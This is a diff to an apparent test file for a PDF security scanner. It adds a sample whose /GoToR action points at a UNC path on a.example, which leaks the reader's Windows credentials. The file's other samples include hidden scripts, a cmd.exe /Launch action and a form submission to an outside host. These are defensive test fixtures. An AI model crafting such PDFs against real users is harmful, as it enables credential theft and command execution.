@@ -177,6 +177,8 @@ def hostile() -> list[Bad]:
         Bad("script behind a false end", pdf(b"<< /A endobj /OpenAction " + SCRIPT.encode() + b" >>"), "script"),
         Bad("script in the trailer", pdf(trailer=f"/X {SCRIPT}"), "script"),
         Bad("launch", pdf(catalog="/OpenAction << /S /Launch /F (cmd.exe) >>"), "launch"),
+        # A link to another file: readers ask the server that it names, with the reader's own account on Windows.
+        Bad("other file", pdf(catalog=r"/OpenAction << /S /GoToR /F (\\\\a.example\\b.pdf) /D [0 /Fit] >>"), "launch"),
         Bad("sends a form", pdf(page="/AA << /O << /S /SubmitForm /F (http://a.example) >> >>"), "launch"),
         Bad("embedded", pdf(stream(b"x", "/Type /EmbeddedFile"), catalog=names), "embedded"),
         Bad("associated", pdf(b"<< /F (a) /EF << /F 4 0 R >> >>", catalog=attached), "embedded"),
